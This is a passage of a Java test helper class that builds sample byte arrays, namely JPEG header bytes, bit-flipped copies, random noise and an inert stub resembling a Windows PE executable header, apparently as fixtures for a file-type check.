        add("the first bytes of a photo and nothing more", "foto.jpg", new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0});
    }

    private static byte[] flipped(byte[] content, int at) {
        var changed = content.clone();
        changed[at] ^= 1;
        return changed;
    }

    private static byte[] noise(int length) {
        var noise = new byte[length];
        new Random(length).nextBytes(noise);
        return noise;
    }

    /** What Windows takes for a program, as far as its first bytes tell. */
    private static byte[] exe() {
        var program = ByteBuffer.allocate(0x200).order(ByteOrder.LITTLE_ENDIAN);
        program.put((byte) 'M').put((byte) 'Z').putInt(0x3C, 0x80);
        program.position(0x40).put("This program cannot be run in DOS mode".getBytes(ISO_8859_1));
        program.position(0x80).put(new byte[] {'P', 'E', 0, 0, 0x64, (byte) 0x86});
        return program.array();
    }
}
